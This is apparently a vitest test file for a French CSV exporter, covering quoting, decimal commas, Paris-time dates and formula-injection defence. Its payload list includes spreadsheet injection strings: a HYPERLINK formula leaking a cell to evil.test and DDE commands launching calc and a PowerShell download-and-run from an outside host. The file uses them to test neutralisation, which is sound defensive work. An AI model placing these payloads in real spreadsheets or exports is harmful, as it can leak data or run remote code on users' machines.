import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { cellText, formatParisDateTime, parisParts, safeText, toCsv } from './csv';

/** A small RFC 4180 reader (`;` separator) to read back what toCsv wrote. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ';') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += c;
  }
  if (cell || row.length) {
    row.push(cell);
    rows.push(row);
  }
  return rows;
}

const FORMULA_PAYLOADS = [
  '=HYPERLINK("http://evil.test/?leak="&A1;"Cliquez ici")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1)',
  '\t=1',
  '\r=1+1',
  '=1+1',
  "=cmd|'/C powershell IEX(wget 0r.pe/p)'!A0",
  '+33 6 12 34 56 78',
  '-',
];

describe('safeText', () => {
  it.each(FORMULA_PAYLOADS)('neutralises the formula payload %j with a leading apostrophe', (payload) => {
    expect(safeText(payload)).toBe(`'${payload}`);
  });

  it('leaves ordinary texts alone', () => {
    for (const t of ['Hélène', 'Dupont-Martin', 'a=b', '', ' =1', '1+1', "l'oral", 'x@y.fr'])
      expect(safeText(t)).toBe(t);
  });
});

describe('toCsv', () => {
  it('writes a BOM, ; separators and CRLF line ends', () => {
    const csv = toCsv(['Nom', 'Prénom'], [['Martin', 'Hélène']]);
    expect(csv.charCodeAt(0)).toBe(0xfeff);
    expect(csv).toBe('\uFEFFNom;Prénom\r\nMartin;Hélène\r\n');
    // UTF-8 bytes of the BOM, as the file will be written.
    expect([...new TextEncoder().encode(csv).slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  });

  it('quotes cells with ; " CR or LF and doubles the quotes (RFC 4180)', () => {
    const csv = toCsv(
      ['A'],
      [['un;deux'], ['il a dit "bonjour"'], ['ligne 1\nligne 2'], ['a\rb'], ['simple']],
    );
    const lines = csv.slice(1);
    expect(lines).toContain('"un;deux"\r\n');
    expect(lines).toContain('"il a dit ""bonjour"""\r\n');
    expect(lines).toContain('"ligne 1\nligne 2"\r\n');
    expect(lines).toContain('"a\rb"\r\n');
    expect(lines).toContain('\r\nsimple\r\n');
  });

  it('writes numbers with a decimal comma and keeps negative numbers as numbers', () => {
    expect(toCsv(['n'], [[4.5], [-3], [0], [1234567.25], [Number.NaN]]).slice(1)).toBe(
      'n\r\n4,5\r\n-3\r\n0\r\n1234567,25\r\n\r\n',
    );
  });

  it('writes dates JJ/MM/AAAA HH:MM in Paris time, winter and summer', () => {
    // 14:05 UTC in January is 15:05 in Paris; 14:05 UTC in July is 16:05.
    expect(cellText(new Date('2026-01-15T14:05:00Z'))).toBe('15/01/2026 15:05');
    expect(cellText(new Date('2026-07-03T14:05:00Z'))).toBe('03/07/2026 16:05');
    // 23:30 UTC on 31 December is already 1 January in Paris.
    expect(formatParisDateTime(new Date('2026-12-31T23:30:00Z'))).toBe('01/01/2027 00:30');
    expect(cellText(new Date('invalid'))).toBe('');
  });

  it('gives the Paris wall-clock time Intl gives, at any instant (property)', () => {
    const intl = new Intl.DateTimeFormat('fr-FR', {
      timeZone: 'Europe/Paris',
      year: 'numeric',
      month: '2-digit',
      day: '2-digit',
      hour: '2-digit',
      minute: '2-digit',
      hourCycle: 'h23',
    });
    fc.assert(
      fc.property(fc.integer({ min: Date.UTC(1990, 0, 1), max: Date.UTC(2060, 0, 1) }), (ms) => {
        const d = new Date(ms);
        expect(formatParisDateTime(d)).toBe(intl.format(d).replace(',', ''));
      }),
      { numRuns: 500 },
    );
    // Around the change to summer time (29 March 2026, 01:00 UTC).
    expect(parisParts(new Date('2026-03-29T00:59:59Z'))).toMatchObject({ hour: 1, minute: 59, second: 59 });
    expect(parisParts(new Date('2026-03-29T01:00:00Z'))).toMatchObject({ hour: 3, minute: 0 });
  });

  it('writes booleans Oui/Non and null/undefined as empty cells', () => {
    expect(toCsv(['a', 'b', 'c', 'd'], [[true, false, null, undefined]]).slice(1)).toBe(
      'a;b;c;d\r\nOui;Non;;\r\n',
    );
  });

  it('neutralises every formula payload of the corpus, quoted where needed', () => {
    const rows = parseCsv(
      toCsv(
        ['Nom'],
        FORMULA_PAYLOADS.map((p) => [p]),
      ).slice(1),
    );
    expect(rows.slice(1).map((r) => r[0])).toEqual(FORMULA_PAYLOADS.map((p) => `'${p}`));
    for (const r of rows.slice(1)) expect(r[0]?.startsWith("'")).toBe(true);
  });

  it('round-trips any text through an RFC 4180 reader (property)', () => {
    fc.assert(
      fc.property(
        fc.array(fc.array(fc.string({ maxLength: 20 }), { minLength: 3, maxLength: 3 }), { maxLength: 8 }),
        (rows) => {
          const parsed = parseCsv(toCsv(['a', 'b', 'c'], rows).slice(1));
          expect(parsed).toEqual([['a', 'b', 'c'], ...rows.map((r) => r.map((c) => safeText(c)))]);
        },
      ),
    );
  });
});
